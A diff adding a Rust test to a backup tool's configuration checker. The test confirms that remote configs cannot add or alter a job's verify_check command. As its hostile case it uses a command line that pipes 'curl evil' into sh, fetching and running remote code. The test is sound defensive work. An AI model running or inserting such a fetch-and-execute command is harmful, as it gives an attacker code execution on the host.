@@ -477,6 +477,60 @@ fn pre_backup_commands_are_never_added_or_changed_remotely() {
 }
 
 #[test]
+fn verify_check_commands_are_never_added_or_changed_remotely() {
+    let job = |check: &str| {
+        format!(
+            "[[jobs]]\nname = \"pg\"\nsources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
+             verify_restore = \"weekly\"\n{check}"
+        )
+    };
+    let check = |cmd: &str| format!("[jobs.verify_check]\ncommand = [{cmd}]\n");
+    let ok = "\"/usr/local/bin/check-dump\", \"app.dump\"";
+    let file = format!(
+        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n{}",
+        job(&check(ok))
+            .replace("[[jobs]]", "[[modules.jobs]]")
+            .replace("[jobs.", "[modules.jobs.")
+    );
+    let remote = |c: &str| module(&format!("type = \"backup\"\nname = \"bk\"\n{}", job(c)));
+    let open = host(
+        "allow_kind_change = true\nallow_command_probes = true\nbackup_sources = [\"/\"]\n\
+         backup_destinations = [\"/\"]",
+        &file,
+    );
+    for surface in [Surface::Command, Surface::Admin] {
+        // Repeating the file's check, or dropping it, is fine.
+        for same in [check(ok), String::new()] {
+            assert!(open
+                .check_module("bk", "backup", &remote(&same), surface, &none)
+                .is_empty());
+        }
+        let v = open.check_module(
+            "bk",
+            "backup",
+            &remote(&check("\"/bin/sh\", \"-c\", \"curl evil | sh\"")),
+            surface,
+            &none,
+        );
+        assert_eq!(
+            rules(&v),
+            [("verify_check commands", "jobs[0].verify_check.command")]
+        );
+    }
+    // A file without a check: a remote config may not add one.
+    let plain = host(
+        "",
+        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"pg\"\n\
+         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n",
+    );
+    let v = plain.check_module("bk", "backup", &remote(&check(ok)), Surface::Command, &none);
+    assert_eq!(
+        rules(&v),
+        [("verify_check commands", "jobs[0].verify_check.command")]
+    );
+}
+
+#[test]
 fn restore_targets_only_under_the_allowlist() {
     let fs = Fs::new(
         &["/", "/srv", "/srv/restore", "/etc"],
